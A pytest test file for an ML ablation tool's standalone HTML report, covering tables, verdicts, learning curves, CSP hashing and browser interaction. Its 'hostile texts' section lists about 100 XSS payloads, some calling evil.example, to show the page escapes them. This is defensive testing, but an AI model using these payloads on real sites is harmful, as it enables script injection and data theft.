"""`report.html`: whole, on its own, and nothing but text of what is text. In a real Chromium where there is one."""

import base64
import hashlib
import json
import math
import os
import re
from collections import Counter
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pytest
from support import comparisons
from support.fake_runs import config, history, write

from ablation.comparison.analysis import time_to_threshold
from ablation.comparison.analysis.comparison import Comparability, ComparedVariant, Comparison, Difference, Metric
from ablation.comparison.reading.load import load
from ablation.comparison.reading.run import Diverged, Run
from ablation.report.figures import overlay
from ablation.report.figures.axis import Scale
from ablation.report.html import arm_selection, curve_paths, forest_bars
from ablation.report.html.page import report
from ablation.report.html.rows import half_width
from ablation.report.html.run_details import TAIL, error, tail
from ablation.report.tables import markdown
from ablation.report.wording import findings, warnings
from ablation.rundir import layout
from ablation.rundir import record as rundir_record
from ablation.statistics.arm import Arm
from ablation.statistics.verdict import judge

CHROMIUM = Path("/usr/bin/chromium")
NAN = re.compile(r"\bnan\b|\bNone\b")
SENTENCES = ["plain34 is worse than resnet34.", "For the rest these seeds are inconclusive."]
COMMAND = ["ablate-compare", "out puts", "--margin", "0.02"]
METRIC = Metric("test accuracy", "test_accuracy", "Test accuracy of the last weights, on 360 images.", images=360)


def compared(folder: Path, **changes) -> Comparison:
    """The runs below a folder: an arm a variant, the first one by its label the baseline."""
    loaded = load([folder])
    groups: dict[str, list] = {}
    for run in sorted([*loaded.runs, *loaded.diverged], key=lambda r: (r.network, r.variant, r.seed)):
        groups.setdefault(run.variant, []).append(run)
    rows = []
    for index, group in enumerate(groups.values()):
        done = tuple(run for run in group if isinstance(run, Run))
        lost = tuple(run for run in group if isinstance(run, Diverged))
        label = "baseline" if not index else f"-{group[0].network} {index}"
        arm = Arm(label, {run.seed: run.test_accuracy for run in done}, 1 / 360)
        rows.append(ComparedVariant(label, done, arm, lost, planned_seeds=len(group)))
    return Comparison(METRIC, judged(rows), "baseline", excluded=tuple(loaded.excluded), **changes)


def judged(rows: list[ComparedVariant], margin: float | None = None) -> tuple[ComparedVariant, ...]:
    base = rows[0].arm
    having = [row for row in rows[1:] if row.runs]
    found = judge([(row.arm, base) for row in having], None, margin)
    findings = dict(zip([row.label for row in having], found, strict=True))
    arms = (replace(row, result=findings.get(row.label), reference="baseline") for row in rows[1:])
    return (rows[0], *arms)


@pytest.fixture(scope="module")
def study(tmp_path_factory) -> Comparison:
    """Four arms of four seeds: the baseline, a worse one, one that the gate refuses, one of which a run diverged."""
    out = tmp_path_factory.mktemp("outputs")
    widths = {16: 0.9, 8: 0.6, 4: 0.89, 2: 0.88}
    for width, accuracy in widths.items():
        for seed in range(4):
            rows = history(8, accuracy + 0.004 * ((seed * 7 + width) % 5), loss=1 - accuracy)
            changes = {"status": "diverged"} if (width, seed) == (2, 3) else {}
            write(out, config(seed=seed, **{"model.width": width}), rows, **changes)
    made = compared(out, study="widths", question="Does width carry it?", plan="abc" * 20, comparisons=3)
    first, *others = sorted(made.variants, key=lambda row: -row.runs[0].config["model.width"])
    names = ("baseline", "-half", "-quarter", "-eighth")
    rows = [
        replace(row, label=name, arm=replace(row.arm, label=name))
        for name, row in zip(names, (first, *others), strict=True)
    ]
    base, half, quarter, eighth = judged(rows)
    half = replace(
        half, removed=("half",), co_changes=("train.learning_rate=0.01",), differs={"model.width": ("16", "8")}
    )
    refused = Comparability((Difference("data.digest", "aa", "bb"),), (Difference("threads", "1", "2"),))
    quarter = replace(quarter, removed=("quarter",), comparability=refused, result=None)
    eighth = replace(eighth, planned_seeds=4, comparability=Comparability((), (Difference("threads", "1", "2"),)))
    (base.runs[0].path / layout.LOG).write_text("one\n\x1b[31mtwo\x1b[0m\n10 %\r100 %\n")
    return replace(made, variants=(base, half, quarter, eighth), warnings=("Seeds are few.",), margin=0.02)


class Document(HTMLParser):
    """What a parsed page is made of: elements with their attributes' names, and its text."""

    def __init__(self, page: bytes):
        super().__init__()
        self.elements, self.values, self.text = Counter(), [], []
        self.feed(page.decode())

    def handle_starttag(self, tag, attrs):
        self.text.append(" ")
        self.elements[tag, tuple(sorted(name for name, _ in attrs))] += 1
        self.values += [(tag, name, value) for name, value in attrs]

    def handle_data(self, data):
        if self.cdata_elem is None:  # neither script nor style
            self.text.append(data)


def shown(page: bytes) -> str:
    return re.sub(r"\s+", " ", "".join(Document(page).text))


# ---------------------------------------------------------------- what it holds


def test_it_says_what_was_asked_and_what_was_found(study):
    text = shown(report(study, SENTENCES, COMMAND))
    for part in (
        "Does width carry it?", "Ablation study widths", *SENTENCES, METRIC.caption, "Seeds are few.",
        "4 variants, 16 runs", "data.digest: aa → bb", "train.learning_rate=0.01", "model.width 16 → 8",
        "not comparable", "3 of 4 1 diverged", "335k", "1.21M", "12 s", "threads 1 → 2 -quarter, -eighth",
        "ablate -m +study=widths", "ablate-compare 'out puts' --margin 0.02", "diverged after 8 whole epochs",
        "one two 100 %",
    ):  # fmt: skip
        assert part in text, part


def test_the_numbers_are_the_comparison_s(study):
    text = shown(report(study, SENTENCES, COMMAND))
    for row in study.variants:
        assert f"{row.arm.mean:.3f} ± {half_width(row.arm):.3f}" in text
    found = study.variant("-half").result
    numbers = f"{found.difference:+.3f} [{found.interval[0]:+.3f}, {found.interval[1]:+.3f}]".replace("-", "−")
    assert numbers in text and f"▼ {found.verdict}" in text


def test_half_width_is_student_s():
    assert half_width(Arm("a", {0: 1.0, 1: 2.0, 2: 3.0})) == pytest.approx(4.302652729911275 / math.sqrt(3))
    assert math.isnan(half_width(Arm("a", {0: 1.0})))


def test_a_row_that_is_refused_has_no_bar(study):
    forest = forest_bars.forest(study)
    assert sorted(forest.bars) == [1, 3]
    assert forest.margin[0] < forest.zero < forest.margin[1]


def test_equal_input_gives_equal_bytes(study):
    assert report(study, SENTENCES, COMMAND) == report(study, SENTENCES, COMMAND)


def test_the_tags_of_a_run_stand_in_its_details(tmp_path):
    write(tmp_path, config(seed=0, tags=["warm up", "second try"]), history(1))
    write(tmp_path, config(seed=1, tags=["lost"]), history(1), status="diverged")
    write(tmp_path, config(seed=2), history(1))
    text = shown(report(compared(tmp_path), [], COMMAND))
    assert "tags warm up, second try" in text and "tags lost" in text and len(re.findall(r"\btags\b", text)) == 2


@pytest.mark.parametrize("told", [None, "word", 3, {"a": "b"}, [["deep"]], [1, None, True]], ids=repr)
def test_tags_of_another_type_are_none(tmp_path, told):
    write(tmp_path, config(), history(1), tags=told)
    assert load([tmp_path]).runs[0].tags == ()


def test_of_very_many_tags_and_long_ones_some_are_kept(tmp_path):
    write(tmp_path, config(), history(1), tags=[f"{i} {'x' * 1000}" for i in range(1000)])
    (run,) = load([tmp_path]).runs
    assert len(run.tags) == 32 and {len(tag) for tag in run.tags} == {200}


def test_what_ended_a_failed_run_is_told_where_it_is_left_out(tmp_path):
    write(tmp_path, config(seed=0), history(1))
    failed = write(tmp_path, config(seed=1), history(1), status="failed", error="ValueError: no such layer")
    write(tmp_path, config(seed=2), history(1), status="failed")
    (failed / layout.LOG).write_text("the end")
    text = shown(report(compared(tmp_path), [], COMMAND))
    assert "failed: ValueError: no such layer End of run.log the end" in text
    assert text.count("failed:") == 1 and not NAN.search(text)


def test_an_error_s_text_is_text_and_bounded(tmp_path):
    write(tmp_path, config(seed=0), history(1))
    failed = write(tmp_path, config(seed=1), history(1), status="failed", error="x" * 40)
    harmless, record = Document(report(compared(tmp_path), [], COMMAND)).elements, rundir_record.read_record(failed)
    for payload in PAYLOADS:
        rundir_record.write_record(failed, replace(record, error=payload))
        assert Document(report(compared(tmp_path), [], COMMAND)).elements == harmless, payload
    rundir_record.write_record(failed, replace(record, error=f"first\nsecond {'y' * 10**6}"))
    assert error(failed).startswith("first second y") and len(error(failed)) == 500
    (failed / layout.RECORD).write_bytes(b"{")
    assert error(failed) == "" == error(tmp_path / "absent")


def test_commands_that_made_the_runs_stand_first(study):
    text = shown(report(study, SENTENCES, COMMAND, ["ablate -m +study=widths seed=1"]))
    assert "ablate -m +study=widths seed=1 ablate-compare 'out puts'" in text


def test_nothing_but_one_run(tmp_path):
    write(tmp_path, config(), history(1))
    text = shown(report(compared(tmp_path), [], ["ablate-compare", "x"]))
    assert "Learning curves" in text and "Differences" not in text and not NAN.search(text)


def test_without_a_baseline_it_describes(tmp_path):
    write(tmp_path, config(), history(1))
    alone = replace(compared(tmp_path), baseline=None)
    text = shown(report(alone, findings.sentences(alone), ["ablate-compare", "x"]))
    assert "What the runs show Nothing to compare baseline with. Its test accuracy: 0.890 (1 seed)." in text
    assert "Verdict" not in text and "for no baseline is named" in text and "Nothing: the arms" not in text


def test_nothing_else_differs_only_where_something_was_compared(tmp_path):
    write(tmp_path, config(), history(1))
    text = shown(report(compared(tmp_path), [], COMMAND))
    assert "Nothing: the arms" not in text and "no two arms that would be have runs" in text
    write(tmp_path, config(**{"model.width": 8}), history(1), status="diverged")
    lost = replace(compared(tmp_path), baseline=None)
    lost = replace(lost, variants=tuple(replace(row, reference=None, result=None) for row in lost.variants))
    text = shown(report(lost, findings.sentences(lost), COMMAND))
    assert "no runs" in text and "Nothing: the arms" not in text and "for no baseline is named" in text
    write(tmp_path, config(**{"model.width": 4}), history(1))
    assert "Nothing: the arms differ in what was declared" in shown(report(compared(tmp_path), [], COMMAND))


def test_of_a_factorial_no_difference_is_said_to_be_judged():
    """Whether its effects are, or one cell is no comparison and bars them."""
    rows = tuple(replace(r, runs=()) for r in comparisons.factorial().variants)
    for made in (
        replace(comparisons.factorial(), variants=rows),
        replace(comparisons.factorial(), variants=rows, effects=()),
    ):
        text = shown(report(made, [], COMMAND))
        assert "no difference is judged by itself" in text and "The verdict comes from" not in text
        assert "too few seeds" not in text
    grown = replace(comparisons.study(), variants=comparisons.study().variants[:2], max_seeds=9)
    grown = replace(grown, variants=tuple(replace(r, runs=()) for r in grown.variants))
    assert "take no account of the looks" in shown(report(grown, [], COMMAND))


def test_the_page_says_which_of_many_curves_are_drawn(tmp_path, monkeypatch):
    for width in (4, 8, 16):
        write(tmp_path, config(**{"model.width": width}), history(2))
    made = compared(tmp_path)
    monkeypatch.setattr(arm_selection, "MOST", 2)
    said = "Drawn are the baseline and the variants that differ most, 2 in all; 1 more are in the table."
    assert said in shown(report(made, [], COMMAND))
    alone = replace(
        made, baseline=None, variants=tuple(replace(row, result=None, reference=None) for row in made.variants)
    )
    assert "Drawn are the first 2 variants; 1 more are in the table." in shown(report(alone, [], COMMAND))


def test_arms_without_a_run_and_runs_without_an_epoch(tmp_path):
    directory = write(tmp_path, config(), [], status="diverged")
    record = rundir_record.read_record(directory)
    (directory / layout.HISTORY).unlink()
    (directory / layout.LOG).write_text("lost")
    rundir_record.write_record(directory, record)
    made = compared(tmp_path)
    empty = ComparedVariant("-gone", (), Arm("-gone", {}), planned_seeds=3, reference="baseline")
    text = shown(report(replace(made, variants=(*made.variants, empty)), [], ["ablate-compare"]))
    assert "no runs" in text and "0 of 3" in text and "diverged after 0 whole epochs" in text and not NAN.search(text)


def test_a_comparison_is_planned_where_there_is_a_plan(study):
    assert "3 planned comparisons Plan abcabcabcabc" in shown(report(study, SENTENCES, COMMAND))
    text = shown(report(replace(study, plan=None, comparisons=1), SENTENCES, COMMAND))
    assert "1 comparison " in text and "planned comparison" not in text


def test_every_verdict_that_rests_on_normal_noise_says_so():
    """As in the other tables: also that a difference cannot be told, or does not matter."""
    rows = [
        comparisons.row(name, values) for name, values in (("baseline", [0.9, 0.91, 0.92]), ("-a", [0.9, 0.92, 0.94]))
    ]
    for margin, verdict in ((None, "inconclusive"), (0.5, "equivalent")):
        made = comparisons.compare(rows, margin)
        assert made.variants[1].result.verdict == verdict and f"{verdict}†" in markdown.markdown(made)
        assert "under normal noise, for so few runs" in " ".join(findings.sentences(made))
        bare = replace(made, variants=tuple(replace(row, runs=()) for row in made.variants))
        assert "Verdicts are said under normal noise." in shown(report(bare, [], COMMAND))


def test_of_one_seed_each_no_mean_interval_or_band_is_said_to_be_there(tmp_path):
    for seeds, there in ((1, False), (2, True)):
        for width in (4, 8):
            write(tmp_path, config(seed=seeds, **{"model.width": width}), history(2, 0.8 + seeds / 100))
        text = shown(report(compared(tmp_path), [], COMMAND))
        assert ("mean ± half" in text, "Band:" in text, "One seed each." in text) == (there, there, not there)


def test_a_warning_stands_on_the_page_once(study):
    base, half, *others = study.variants
    noticed = replace(half, result=replace(half.result, diagnostics=("the deviation of -half is vast",)))
    made = replace(study, variants=(base, noticed, *others))
    text = shown(report(made, findings.sentences(made), COMMAND))
    warnings = (
        "Careful: the deviation of -half is vast.", "Careful: runs that diverged are in no mean: 1 of -eighth.",
        "Seeds are few.",
    )  # fmt: skip
    assert [text.count(warning) for warning in warnings] == [1, 1, 1] and " ".join(warnings) in text
    assert "Worse than baseline on test accuracy" in text and text.count("Worse than baseline") == 1


def test_a_column_without_a_number_is_not_there(study):
    text = shown(report(study, SENTENCES, COMMAND))
    assert "Paired by seed" in text and "These networks on these images" not in text
    base, half, *others = study.variants
    alone = replace(half, result=replace(half.result, paired=None))
    assert "Paired by seed" not in shown(report(replace(study, variants=(base, alone)), SENTENCES, COMMAND))


def test_what_a_label_says_is_no_column_of_its_own(study):
    removed = [row for row in study.variants if row.removed]
    assert [row.label for row in removed] == ["-half", "-quarter"] and "Removed" not in shown(report(study, [], []))
    base, half, *others = study.variants
    assert "Removed" in shown(report(replace(study, variants=(base, replace(half, removed=("it",)), *others)), [], []))


def test_of_a_name_in_a_sentence_alone_an_element_is_made(study):
    page = report(study, ["Worse: -half, not -halfway; -quarter; <b>-half</b> 95 % of -eighth."], COMMAND).decode()
    whole = '<span class="whole">-half</span>, not -halfway; <span class="whole">-quarter</span>;'
    assert f"{whole} &lt;b&gt;-half&lt;/b&gt; 95&nbsp;% of" in page
    named = replace(study, variants=tuple(replace(row, label=f"-<{i}>") for i, row in enumerate(study.variants)))
    assert '<span class="whole">' not in report(named, ["-<1> -<2>"], COMMAND).decode()


def test_of_many_arms_equal_warnings_and_differences_are_told_together(study):
    base, half, quarter, _ = study.variants
    rows = [base]
    for i in range(180):
        noticed = (f"the deviation of arm{i} is {20 + i} times that of baseline",)
        arm, gate = replace(half.arm, label=f"arm{i}"), Comparability((), (Difference("threads", "1", str(i)),))
        rows.append(
            replace(
                half, label=f"arm{i}", result=replace(half.result, arm=arm, diagnostics=noticed), comparability=gate
            )
        )
    for i in range(40):
        rows.append(replace(quarter, label=f"bad{i}", comparability=Comparability((Difference("steps", "1", str(i)),))))
    made = replace(study, variants=tuple(rows))
    told = findings.sentences(made)
    assert max(map(len, told)) < 700 and len(told) < 12
    assert (
        "Careful: the deviation of arm0 is 20 times that of baseline; much the same holds for arm1, arm2, arm3, arm4, "
        "arm5, arm6 and 173 more." in told
    )
    assert (
        "Not compared: bad0, bad1, bad2, bad3, bad4, bad5 and 34 more, which differ from baseline in steps too." in told
    )
    assert told[0].count(";") == 6 and told[0].endswith("; and 174 more.")
    text = shown(report(made, told, COMMAND))
    assert text.count("times that of") == 1 and "threads and 177 more 177 variants" in text
    assert "steps and 37 more 37 variants" in text


def test_few_warnings_are_told_in_full_and_those_of_another_kind_apart(study):
    base, half, _, eighth = study.variants
    noticed = [f"the deviation of {name} is 12 times that of baseline" for name in ("-half", "-eighth")]
    noticed.append("the deviation of baseline is 12 times that of -eighth")
    half, eighth = (
        replace(row, result=replace(row.result, diagnostics=texts))
        for row, texts in ((half, tuple(noticed[:1])), (eighth, tuple(noticed[1:])))
    )
    told = warnings.careful(replace(study, variants=(base, half, eighth)))
    assert told[:3] == [f"Careful: {text}." for text in noticed]


def test_arms_that_are_refused_for_the_same_are_one_sentence(study):
    base, _, quarter, _ = study.variants
    gates = [Comparability((Difference("steps", "1", "2"),))] * 2 + [Comparability((Difference("steps", "1", "3"),))]
    rows = (base, *(replace(quarter, label=f"bad{i}", comparability=gate) for i, gate in enumerate(gates)))
    assert list(warnings.refused(rows)) == [
        "Not compared: bad0 and bad1, which differ from baseline in steps (1 there, 2 here) too.",
        "Not compared: bad2, which differs from baseline in steps (1 there, 3 here) too.",
    ]
    many = [
        replace(quarter, label=f"b{i}", comparability=Comparability((Difference(f"key{i}", "1", "2"),)))
        for i in range(9)
    ]
    assert list(warnings.refused(many))[-1] == "Not compared either: 3 more, for what the table says."


def test_where_no_study_is_it_says_where_the_commands_lie(study):
    assert ".hydra/overrides.yaml" not in shown(report(study, SENTENCES, COMMAND))
    assert ".hydra/overrides.yaml" not in shown(report(replace(study, study=None), [], COMMAND, ["ablate seed=0"]))
    assert "in .hydra/overrides.yaml: typed behind ablate" in shown(report(replace(study, study=None), [], COMMAND))


# ---------------------------------------------------------------- curves


def test_curves_are_means_and_ranges_up_to_the_last_common_epoch(tmp_path):
    for seed, (epochs, accuracy) in enumerate([(6, 0.5), (8, 0.9)]):
        write(tmp_path, config(seed=seed), history(epochs, accuracy))
    made = compared(tmp_path)
    runs = made.variants[0].runs
    _, panel = curve_paths.panels(made)
    mean, low, high = panel.values["arms"]["0"]
    both = np.array([run.history["val_accuracy"][:6] for run in runs])
    assert mean == pytest.approx(both.mean(0), rel=1e-3) and low == pytest.approx(both.min(0), rel=1e-3)
    assert high == pytest.approx(both.max(0), rel=1e-3) and panel.values["epochs"] == [1, 2, 3, 4, 5, 6]
    assert panel.lines[0].mean.count("L") == 5 and panel.lines[0].seeds.count("M") == 2


def test_a_path_lies_where_its_values_do(tmp_path):
    write(tmp_path, config(), history(3))
    panel = curve_paths.panels(compared(tmp_path))[1]
    low, high = panel.values["low"], panel.values["high"]
    wanted = [
        f"{x} {round(curve_paths.HIGH * (high - value) / (high - low))}"
        for x, value in zip((0, curve_paths.WIDE // 2, curve_paths.WIDE), panel.values["arms"]["0"][0], strict=True)
    ]
    assert panel.lines[0].mean == f"M{'L'.join(wanted)}"


def test_a_loss_that_spans_decades_is_drawn_on_a_log_axis(tmp_path):
    write(tmp_path, config(), history(6, loss=0.001))
    loss, accuracy = curve_paths.panels(compared(tmp_path))
    assert loss.values["log"] and not accuracy.values["log"]


def test_an_epoch_without_a_number_is_a_gap(study):
    base = study.variants[0]
    gone = {**base.runs[0].history, "val_loss": (1.0, math.nan, math.inf, 0.5)}
    for name in ("loss", "val_accuracy"):
        gone[name] = base.runs[0].history[name][:4]
    rows = (replace(base, runs=(replace(base.runs[0], history=gone),)),)
    made = replace(study, variants=rows, metric=replace(METRIC, key="val_loss", higher=False))
    _, panel = curve_paths.panels(made)
    assert panel.title == "Validation loss" and panel.values["arms"]["0"][0] == [1.0, None, None, 0.5]
    assert panel.lines[0].mean.count("L") == 1
    report(made, [], COMMAND)
    json.dumps(panel.values, allow_nan=False)


def test_of_many_arms_the_baseline_and_the_most_different_are_drawn(study):
    base, half, _, _ = study.variants
    near = [replace(half, label=f"near{i}", result=replace(half.result, arm=base.arm)) for i in range(60)]
    made = replace(study, variants=(base, *near, half))
    drawn = arm_selection.drawn(made)
    assert len(drawn) == arm_selection.MOST and drawn[0] == 0 and drawn[-1] == 61
    assert len(arm_selection.shown(made)) == arm_selection.SHOWN and {0, 61} <= set(arm_selection.shown(made))
    assert f"the baseline and the variants that differ most, {arm_selection.MOST} in all" in shown(
        report(made, [], COMMAND)
    )
    assert f"{62 - arm_selection.MOST} more are in the table" in shown(report(made, [], COMMAND))


def test_an_arm_looks_as_in_the_figures(study):
    looks = arm_selection.looks(study)
    lines = [line for line in overlay.overlay(study).axes[1].lines if len(line.get_xdata()) > 1]
    assert [arm_selection.COLOURS[look.colour] for look in looks.values()] == [line.get_color() for line in lines]
    assert looks[0] == arm_selection.Look(0, "") and arm_selection.COLOURS[0] == "#000000"
    assert [bool(look.dashes) for look in looks.values()] == [line.is_dashed() for line in lines]
    page = report(study, SENTENCES, COMMAND).decode()
    assert page.count('class="line k0"') == 2 and page.count(f'stroke-dasharray="{looks[1].dashes}" d=') == 2


@pytest.mark.parametrize("named", [True, False])
def test_the_curves_shown_at_first_look_different(study, named):
    _, half, _, _ = study.variants
    rows = [replace(half, label=f"arm{i}", result=half.result if i % 7 == 1 else None) for i in range(180)]
    made = replace(study, variants=tuple(rows), baseline="arm0" if named else None)
    first, looks = arm_selection.shown(made), arm_selection.looks(made)
    assert len({looks[i] for i in first}) == len(first) == arm_selection.SHOWN
    assert list(looks) == [*first, *(i for i in arm_selection.drawn(made) if i not in first)]
    report(made, [], COMMAND)


def test_the_threshold_lies_across_the_curve_that_it_is_of(study):
    loss, accuracy = curve_paths.panels(time_to_threshold.reach(study, "0.95", "epoch"))
    low, high = accuracy.values["low"], accuracy.values["high"]
    assert loss.level is None and low < 0.95 < high
    assert accuracy.level == pytest.approx(100 * (high - 0.95) / (high - low), abs=0.01)
    page = report(time_to_threshold.reach(study, "0.95", "epoch"), [], COMMAND)
    assert page.count(b'class="level"') == 1 and "Dashed across: the threshold of 0.95." in shown(page)
    assert "Dashed across" not in shown(report(study, [], COMMAND))


# ---------------------------------------------------------------- on its own


def test_it_allows_its_own_script_and_style_by_hash_and_nothing_else(study):
    page = report(study, SENTENCES, COMMAND).decode()
    (policy,) = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]*)"', page)
    assert policy.startswith("default-src 'none'; img-src data:; ") and "unsafe" not in policy
    (style,) = re.findall(r"<style>(.*?)</style>", page, re.DOTALL)
    (script,) = re.findall(r"<script>(.*?)</script>", page, re.DOTALL)
    for kind, text in (("style", style), ("script", script)):
        digest = base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
        assert f"{kind}-src 'sha256-{digest}'" in policy
    assert not re.search(r"@import|url\(", style)


def test_no_attribute_asks_for_anything_or_runs_anything(study):
    values = Document(report(study, SENTENCES, COMMAND)).values
    assert [value for _, name, value in values if name in ("src", "href", "xlink:href", "srcset")] == ["data:,"]
    assert not [name for _, name, _ in values if name.startswith("on") or name == "style"]


def test_the_log_s_end_is_short_and_of_a_regular_file_alone(tmp_path):
    log = tmp_path / layout.LOG
    assert tail(tmp_path) == []
    log.write_text("".join(f"line {i}\n" for i in range(100)))
    assert tail(tmp_path) == [f"line {i}" for i in range(80, 100)]
    log.write_bytes(b"\xff" * 10 + b"x" * 3 * TAIL)
    assert tail(tmp_path) == ["x" * TAIL]
    os.truncate(log, 2**40)  # sparse: takes no room, and is not read whole
    assert len("".join(tail(tmp_path))) <= TAIL
    log.unlink()
    secret = tmp_path / "secret"
    secret.write_text("secret")
    log.symlink_to(secret)
    assert tail(tmp_path) == []
    log.unlink()
    os.mkfifo(log)
    assert tail(tmp_path) == []
    log.unlink()
    log.mkdir()
    assert tail(tmp_path) == []


# ---------------------------------------------------------------- hostile texts

SCRIPTS = (
    "alert(1)", "window.hit=1", "fetch('//evil.example/x')", "document.title='hit'", "import('//evil.example/x.js')",
)  # fmt: skip
FORMS = (
    "<script>{}</script>", "</script><script>{}</script>", "</style><script>{}</script>", "<img src=x onerror={}>",
    '"><svg onload={}>', "'><svg/onload={}>", "<iframe srcdoc='<script>{}</script>'></iframe>",
    '<a href="javascript:{}">x</a>', "-->{{{{<b onclick={}>", "]]><script>{}</script>",
    "</pre><details open ontoggle={}>", "</title><script>{}</script>", "</textarea><input autofocus onfocus={}>",
    "<math><mtext></form><form><mglyph><style>{}", "<link rel=stylesheet href='//evil.example/{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<base href='//evil.example/'>{}",
    "{{{{ self.__init__.__globals__ }}}} {{% for x in y %}}{}", "\u2028\u2029<script>{}</script>",
    "\x00<scr\x00ipt>{}</script>\x1b]8;;http://evil.example\x07",
)  # fmt: skip
PAYLOADS = [form.format(script) for form in FORMS for script in SCRIPTS]


def through_everything(study: Comparison, text: str) -> Comparison:
    """The study with a text in every place that takes one from outside."""

    def run(one):
        more = {"name": text, "started": text} if isinstance(one, Run) else {}
        more["tags"] = (text, text)
        facts = {"code": text, "git": {"commit": text}, "versions": {text: text}, "hardware": {"devices": [text]}}
        more |= {"facts": facts | {"steps": {"total": text}}} if isinstance(one, Run) else {}
        return replace(one, network=text, data=text, digest=text, fingerprint=text, **more)

    def row(one: ComparedVariant, index: int) -> ComparedVariant:
        label = f"{text}{index}"
        found = one.result and replace(one.result, diagnostics=(text,))
        gate = Comparability(
            (Difference(text, text, text),) if one.comparability.blocking else (), (Difference(text, text, text),)
        )
        return replace(
            one, label=label, runs=tuple(map(run, one.runs)), diverged=tuple(map(run, one.diverged)), result=found,
            differs={text: (text, text)}, removed=(text,), co_changes=(text,), reference=f"{text}0", comparability=gate,
        )  # fmt: skip

    return replace(
        study,
        metric=Metric(text, f"test_accuracy{text}", text, images=360),
        variants=tuple(row(one, i) for i, one in enumerate(study.variants)),
        baseline=f"{text}0",
        study=text,
        question=text,
        plan=text,
        excluded=((Path("/tmp") / text.replace("\0", ""), text),),
        superseded=(run(study.variants[0].runs[0]),),
        warnings=(text, f"{text}."),
    )


def hostile(study: Comparison, text: str) -> bytes:
    (study.variants[0].runs[0].path / layout.LOG).write_text(text, encoding="utf-8")
    return report(through_everything(study, text), [text], [text], [text])


def test_a_hostile_text_makes_no_element_and_no_attribute(study):
    assert len(set(PAYLOADS)) == 100
    harmless = Document(hostile(study, "harmless, " + "x" * 40)).elements
    for payload in PAYLOADS:
        assert Document(hostile(study, payload)).elements == harmless, payload


def test_what_no_encoding_holds_and_what_turns_text_round_is_replaced(study):
    page = hostile(replace(study), "\u202eabc").decode()
    assert "\u202e" not in page and "\ufffdabc" in page
    assert "\ufffd" in report(study, ["\ud800"], COMMAND).decode()


def test_a_giant_text_is_cut(study):
    assert len(report(study, ["x" * 10**7], COMMAND)) < 10**6


def test_beyond_500_runs_there_is_a_table_alone(study):
    base, *others = study.variants
    runs = tuple(replace(base.runs[0], seed=seed) for seed in range(600))
    many = replace(base, runs=runs, arm=Arm("baseline", {run.seed: run.test_accuracy for run in runs}))
    page = report(replace(study, variants=(many, *others)), SENTENCES, COMMAND)
    text = shown(page)
    assert "End of run.log" not in text and "Folder" in text and "1 diverged" in text
    assert Document(page).elements["td", ("class",)] > 600


# ---------------------------------------------------------------- in a browser


@pytest.fixture(scope="module")
def browser():
    playwright = pytest.importorskip("playwright.sync_api")
    if not CHROMIUM.exists():
        pytest.skip(f"no {CHROMIUM} here")
    with playwright.sync_playwright() as play:
        opened = play.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox"])
        yield opened
        opened.close()


@pytest.fixture
def visit(browser, tmp_path):
    """Open a page; it must ask for nothing but itself and say nothing on the console."""
    contexts, said, asked = [], [], []

    def open_(content: bytes, width=1280, scheme="light"):
        file = tmp_path / "report.html"
        file.write_bytes(content)
        context = browser.new_context(viewport={"width": width, "height": 900}, color_scheme=scheme)
        contexts.append(context)
        page = context.new_page()
        page.on("console", lambda message: said.append(message.text))
        page.on("pageerror", lambda error: said.append(str(error)))
        page.on("dialog", lambda dialog: (said.append("dialog"), dialog.dismiss()))
        page.on("request", lambda request: asked.append(request.url))
        page.goto(file.as_uri())
        return page

    yield open_
    for context in contexts:
        context.close()
    assert said == [] and all(url == (tmp_path / "report.html").as_uri() for url in asked) and asked


def labels(page) -> list[str]:
    return page.locator(".results tbody th").all_inner_texts()


def test_columns_are_sorted_by_click_and_by_key(study, visit):
    page = visit(report(study, SENTENCES, COMMAND))
    before = labels(page)
    heading = page.locator(".results th", has=page.get_by_role("button", name="Test accuracy"))
    means = {row.label: row.arm.mean for row in study.variants}
    heading.locator("button").click()
    assert labels(page) == sorted(before, key=means.get) and heading.get_attribute("aria-sort") == "ascending"
    heading.locator("button").press("Enter")
    assert labels(page) == sorted(before, key=means.get, reverse=True)
    page.locator(".results").get_by_role("button", name="Difference").click()
    assert page.locator(".results th[aria-sort]").count() == 1
    assert labels(page)[:2] == sorted(["-half", "-eighth"], key=lambda name: study.variant(name).result.difference)


def test_the_legend_takes_curves_away_and_brings_them_back(study, visit):
    page = visit(report(study, SENTENCES, COMMAND))
    curves = page.locator('.panel path.line[data-arm="1"]')
    button = page.get_by_role("button", name="-half", exact=True)
    assert curves.count() == 2 and curves.first.is_visible() and curves.last.is_visible()
    button.click()
    assert not curves.first.is_visible() and not curves.last.is_visible()
    assert button.get_attribute("aria-pressed") == "false"
    assert page.locator('.panel path.line[data-arm="0"]').first.is_visible()
    button.press("Space")
    assert curves.first.is_visible() and button.get_attribute("aria-pressed") == "true"
    page.get_by_role("button", name="none", exact=True).click()
    assert not any(line.is_visible() for line in page.locator(".panel path.line").all())
    page.get_by_role("button", name="all", exact=True).click()
    assert all(line.is_visible() for line in page.locator(".panel path.line").all())


def test_pointing_shows_the_values_of_that_epoch(study, visit):
    page = visit(report(study, SENTENCES, COMMAND))
    plot = page.locator(".plot").nth(1)
    box = plot.bounding_box()
    plot.hover(position={"x": box["width"] * 3 / 7, "y": 20})
    tip = plot.locator(".tip")
    text = tip.inner_text()
    both = [run.history["val_accuracy"][3] for run in study.variants[1].runs]
    assert "epoch 4" in text and f"{np.mean(both):.3f} ({min(both):.3f}–{max(both):.3f})" in text
    page.get_by_role("button", name="-half", exact=True).click()
    plot.focus()
    page.keyboard.press("End")
    page.keyboard.press("ArrowLeft")
    assert "epoch 7" in tip.inner_text() and "-half" not in tip.inner_text() and "baseline" in tip.inner_text()
    page.keyboard.press("Escape")
    assert not tip.is_visible()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [320, 375, 768, 1280])
def test_nothing_runs_off_the_page(study, visit, width, scheme):
    long = replace(study.variants[1], label="x" * 300, differs={"y" * 300: ("1" * 300, "2" * 300)})
    page = visit(
        report(
            replace(study, variants=(*study.variants, long), question="q" * 200, study="s" * 200), ["w" * 300], COMMAND
        ),
        width,
        scheme,
    )
    for details in page.locator("details").all():
        details.evaluate("one => { one.open = true }")
    assert page.evaluate("document.documentElement.scrollWidth") <= width
